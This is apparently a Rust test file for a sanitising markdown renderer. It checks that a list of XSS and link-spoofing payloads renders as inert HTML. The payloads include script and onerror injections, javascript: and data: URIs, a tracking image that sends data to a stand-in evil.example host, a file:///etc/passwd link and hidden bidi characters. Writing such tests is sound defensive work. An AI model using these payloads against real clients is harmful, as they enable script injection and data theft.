use proptest::prelude::*;

use super::*;

fn html_of(markdown: &str) -> String {
    match render(markdown) {
        Rendered::Html(html) => html,
        Rendered::Plain => {
            let mut html = String::new();
            push_text(&mut html, markdown);
            html
        }
        Rendered::TooLong => String::new(),
    }
}

const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "pre",
    "code",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tr",
    "th",
    "td",
    "em",
    "strong",
    "del",
    "a",
];

/// Whether an attribute is one that the writer may write.
fn allowed(tag: &str, attribute: &str) -> bool {
    let quoted =
        |rest: &str| rest.len() > 1 && rest.ends_with('"') && rest.matches('"').count() == 1;
    match tag {
        "a" => attribute.strip_prefix("href=\"").is_some_and(|rest| {
            let start = rest.to_ascii_lowercase();
            quoted(rest) && ["http://", "https://", "mailto:"].iter().any(|s| start.starts_with(s))
        }),
        "code" => attribute.strip_prefix("class=\"language-").is_some_and(|rest| {
            quoted(rest) && rest.chars().all(|c| c.is_ascii_alphanumeric() || "+-_.#\"".contains(c))
        }),
        "ol" => attribute
            .strip_prefix("start=\"")
            .is_some_and(|rest| quoted(rest) && rest.trim_end_matches('"').parse::<u64>().is_ok()),
        _ => false,
    }
}

/// Says what is wrong with a piece of HTML, if anything: a tag or attribute that is not allowed, tags that
/// don't match, nesting that is too deep, characters that hide.
pub(in crate::outgoing) fn wrong(html: &str) -> Option<String> {
    let mut open: Vec<&str> = Vec::new();
    for (at, piece) in html.split('<').enumerate() {
        if at == 0 {
            if piece.contains('>') {
                return Some(format!("a stray > in {piece:?}"));
            }
            continue;
        }
        let Some((tag, text)) = piece.split_once('>') else {
            return Some(format!("a tag that does not end: {piece:?}"));
        };
        if text.contains(['>', '"', '\'']) {
            return Some(format!("text that is not escaped: {text:?}"));
        }
        if let Some(name) = tag.strip_prefix('/') {
            if open.pop() != Some(name) {
                return Some(format!("</{name}> ends what is not open"));
            }
            continue;
        }
        let (name, attribute) = tag.split_once(' ').map_or((tag, None), |(n, a)| (n, Some(a)));
        if !TAGS.contains(&name) {
            return Some(format!("<{tag}>"));
        }
        if attribute.is_some_and(|attribute| !allowed(name, attribute)) {
            return Some(format!("<{tag}>"));
        }
        if !["br", "hr"].contains(&name) {
            open.push(name);
        }
        if open.len() > MAX_DEPTH {
            return Some(format!("{} deep", open.len()));
        }
    }
    if html.chars().any(cloister_policy::is_hidden) {
        return Some("hidden characters".to_owned());
    }
    (!open.is_empty()).then(|| format!("{open:?} stay open"))
}

pub(in crate::outgoing) const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "text <img src=https://evil.example/x.png> text",
    "text <img src=\"mxc://evil.example/x\"> text",
    "<svg onload=alert(1)><image href=https://evil.example/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<font color=red data-mx-bg-color=#fff>x</font>",
    "<span data-mx-spoiler=x data-mx-maths=y>x</span>",
    "<mx-reply><blockquote>forged</blockquote></mx-reply>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- <img src=https://evil.example/x> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](matrix:u/evil:example.org)",
    "[x](mxc://evil.example/x)",
    "[x](//evil.example/x)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))",
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[x](https://evil.example/ \"t\" onmouseover=\"alert(1)\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![a](https://evil.example/leak?data=secret)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![a](https://evil.example/a.png)](https://evil.example/b)",
    "![a [b](https://evil.example/b) ![c](https://evil.example/c)](https://evil.example/d)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><img/src=x/onerror=alert(1)>\nx\n```",
    "```rust\nfn unclosed() {",
    "~~~~\n```\n</code></pre><img src=x>",
    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "| a | b |\n|---|---|\n| only one |\n| 1 | 2 | 3 |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](https://evil.example/\u{202e}gpj.exe)",
    "safe \u{202e}gpj.exe\u{202c} \u{200b}hidden \u{2066}x\u{2069}",
    "[x](https://good.example@evil.example/)",
    "**bold *both** italic*",
    "- a\n  - b\n    1. c\n\n       > d\n       > ```\n       > e",
    "<p></p></blockquote></table></pre>",
    "\u{0}<img src=x onerror=alert(1)>",
];

/// X2: what an agent writes can neither run nor load anything in a client.
#[test]
fn attacks_become_text() {
    for attack in ATTACKS {
        let html = html_of(attack);
        assert_eq!(wrong(&html), None, "{attack:?} became {html:?}");
        assert!(!html.contains("<img") && !html.contains("<script"), "{attack:?}: {html}");
    }
}

#[test]
fn ordinary_markdown_keeps_its_form() {
    let html = html_of("# T\n\nA **b** *c* ~~d~~ `e`\nf\n\n3. x\n4. y\n\n- [x] z");
    assert_eq!(
        html,
        "<h1>T</h1><p>A <strong>b</strong> <em>c</em> <del>d</del> <code>e</code><br>f</p>\
         <ol start=\"3\"><li>x</li><li>y</li></ol><ul><li>☑ z</li></ul>"
    );
    let table = html_of("| a | b |\n|---|---|\n| 1 | 2 |");
    assert_eq!(
        table,
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tr><td>1</td><td>2</td></tr></table>"
    );
}

/// X2: code blocks are kept to the letter, with their language.
#[test]
fn code_blocks_are_kept() {
    let html = html_of("```rust,ignore\nlet a = b < c && *d;\n\n  x\n```");
    assert_eq!(
        html,
        "<pre><code class=\"language-rust\">let a = b &lt; c &amp;&amp; *d;\n\n  x\n</code></pre>"
    );
    assert_eq!(html_of("```\nx\n```"), "<pre><code>x\n</code></pre>");
}

#[test]
fn a_link_says_where_it_leads_and_an_image_is_a_link() {
    assert_eq!(
        html_of("[Your bank](https://evil.example/x)"),
        "<p><a href=\"https://evil.example/x\">Your bank</a> (evil.example)</p>"
    );
    assert_eq!(
        html_of("![cat](https://evil.example/c.png)"),
        "<p><a href=\"https://evil.example/c.png\">Image: cat</a> (evil.example)</p>"
    );
    assert_eq!(
        html_of("<https://example.org/>"),
        "<p><a href=\"https://example.org/\">https://example.org/</a></p>"
    );
    assert_eq!(html_of("[x](javascript:alert(1)) **b**"), "<p>x <strong>b</strong></p>");
}

#[test]
fn a_text_without_form_needs_no_html() {
    assert_eq!(render("It is 5 < 6, isn't it?"), Rendered::Plain);
    assert!(matches!(render("a\nb"), Rendered::Html(_)));
    assert!(matches!(render("> a"), Rendered::Html(_)));
}

/// A small text that would become a large one is not rendered at all.
#[test]
fn what_grows_without_end_is_refused() {
    let wide = format!("{}\n{}\n{}", "|a".repeat(500), "|-".repeat(500), "|x\n".repeat(5000));
    assert!(render(&wide) == Rendered::TooLong);
    assert_eq!(render(&"x".repeat(MAX_BYTES + 1)), Rendered::TooLong);
}

#[test]
fn deep_nesting_is_flattened_and_its_text_kept() {
    for opening in [">", "- ", "> - ", "1. > "] {
        let deep = format!("{}the end | x", opening.repeat(300));
        let html = html_of(&deep);
        assert_eq!(wrong(&html), None, "{opening:?}");
        assert!(html.contains("the end"), "{html}");
    }
    let emphasis = format!("{}x{}", "*a **b ".repeat(200), "** *".repeat(200));
    assert_eq!(wrong(&html_of(&emphasis)), None);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_written_is_safe(
        pieces in prop::collection::vec(
            prop_oneof![
                prop::sample::select(ATTACKS).prop_map(str::to_owned),
                prop::sample::select(vec![
                    "\n", "\n\n", "    ", "> ", "- ", "1. ", "# ", "```", "~~~", "`", "**", "*", "_", "~~",
                    "[", "](", ")", "![", "|", "|-|", "<", ">", "\"", "'", "&", "\\", "---", "===",
                ]).prop_map(str::to_owned),
                "\\PC{0,8}",
            ],
            0..40,
        )
    ) {
        let text = pieces.concat();
        let html = html_of(&text);
        prop_assert_eq!(wrong(&html), None, "{:?} became {:?}", text, html);
    }
}
